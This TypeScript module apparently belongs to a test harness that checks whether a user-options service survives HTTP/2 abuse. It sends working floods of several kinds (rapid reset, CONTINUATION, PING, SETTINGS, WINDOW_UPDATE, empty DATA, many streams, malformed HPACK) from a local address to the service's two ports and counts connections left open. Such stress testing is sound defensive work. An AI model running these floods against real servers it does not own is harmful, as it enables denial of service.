import { setTimeout as delay } from "node:timers/promises";
import { type Attack, type Finding, forSeconds, type Port, type Strength, type Target } from "../attack.ts";
import { flag, frame, frameType, headerBlock, opening, openSocket, type RawSocket } from "../frames.ts";

const path = "/userd.v1.UserOptionService/GetOption";
const block = headerBlock(path);
const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Makes the next bytes of an attack; `round` counts from 0. */
type Flood = (round: number) => Uint8Array;

/** Many times the same in one write, so that the attacker costs less than what it attacks. */
const many = (count: number, one: (index: number) => Buffer): Flood => {
  return (round) => Buffer.concat(Array.from({ length: count }, (_, index) => one(round * count + index)));
};
const idOf = (index: number): number => 2 * index + 1;
const headers = (index: number, flags: number = flag.endHeaders | flag.endStream) => frame(frameType.headers, flags, idOf(index), block);

/** The floods. A connection that does this has to be ended. */
const floods: Readonly<Record<string, Flood>> = {
  rapid_reset: many(100, (index) => Buffer.concat([headers(index), frame(frameType.reset, 0, idOf(index), word(8))])),
  continuation: (round) =>
    round === 0
      ? frame(frameType.headers, 0, 1, block)
      : frame(frameType.continuation, 0, 1, Buffer.concat([Buffer.from([0, 1, 120, 100]), Buffer.alloc(100, 97)])),
  empty_continuation: (round) =>
    round === 0 ? frame(frameType.headers, 0, 1, block) : many(500, () => frame(frameType.continuation, 0, 1))(round),
  ping: many(500, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  settings: many(500, () => frame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
  window_update: many(500, () => frame(frameType.windowUpdate, 0, 0, word(1))),
  empty_data: (round) => (round === 0 ? headers(0, flag.endHeaders) : many(500, () => frame(frameType.data, 0, 1))(round)),
  many_streams: many(200, (index) => headers(index, flag.endHeaders)),
  malformed_hpack: (round) =>
    frame(frameType.headers, flag.endHeaders | flag.endStream, idOf(round), Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0x7f])),
};

/** The time in which a connection that has to be ended is ended, in milliseconds. */
const endMs = 5_000;

/** The time after which an attacker whose connection was ended opens another one, in milliseconds. */
const againMs = 100;

const flood = async (socket: RawSocket, next: Flood, end: number): Promise<void> => {
  await socket.write(opening);
  for (let round = 0; performance.now() < end && (await socket.write(next(round))); round += 1) {
    // The polite client's process has the rest of the core.
    if (round % 5 === 0) await delay(1);
  }
};

/** Floods a port over several connections until they are ended, and then over others. Returns how many of the last ones stay. */
const attackPort = async (target: Target, port: Port, next: Flood, { of }: Strength): Promise<number> => {
  const floodMs = of(400, 5_000);
  const end = performance.now() + floodMs;
  const attacker = async (): Promise<RawSocket> => {
    for (;;) {
      const socket = await openSocket(target.address(port), { from: "127.0.0.9" });
      await flood(socket, next, end);
      // One that has no time to flood would stay, and rightly so.
      if (socket.isOpen() || performance.now() > end - floodMs / 2) return socket;
      await delay(againMs);
    }
  };
  const sockets = await Promise.all(Array.from({ length: of(2, 8) }, attacker));
  const openOnes = () => sockets.filter((socket) => socket.isOpen()).length;
  const latest = performance.now() + endMs;
  while (openOnes() > 0 && performance.now() < latest) await delay(50);
  const open = openOnes();
  for (const socket of sockets) socket.end();
  return open;
};

const attackWith = async (names: readonly string[], target: Target, strength: Strength): Promise<readonly Finding[]> => {
  const findings: Finding[] = [];
  for (const name of names) {
    const one = floods[name];
    if (one === undefined) throw new Error(`There is no flood ${name}.`);
    const open = await Promise.all([attackPort(target, "grpc", one, strength), attackPort(target, "http", one, strength)]);
    findings.push({ name: `${name}_open_connections`, value: Math.max(...open), bound: 0 });
  }
  return findings;
};

const rapid = "rapid_reset";
const others = Object.keys(floods).filter((name) => name !== rapid);

/** Streams that are reset as soon as they are opened. */
export const rapidReset: Attack = {
  name: "rapid-reset",
  about: "streams without a token that are reset as soon as they are opened, on both ports",
  bounds: { memoryMb: 100 },
  run: async (target, strength) => {
    const findings: Finding[] = [];
    // Each time over new connections, since those of before were ended.
    await forSeconds(strength.of(3, 20), async () => findings.push(...(await attackWith([rapid], target, strength))));
    return findings.slice(0, 1).map((finding) => ({ ...finding, value: Math.max(...findings.map(({ value }) => value)) }));
  },
};

/** Frames of HTTP/2 that cost the sender little. */
export const frames: Attack = {
  name: "frames",
  about: `floods of frames over HTTP/2 without a token on both ports: ${others.join(", ")}`,
  bounds: { memoryMb: 100 },
  run: (target, strength) => attackWith(others, target, strength),
};
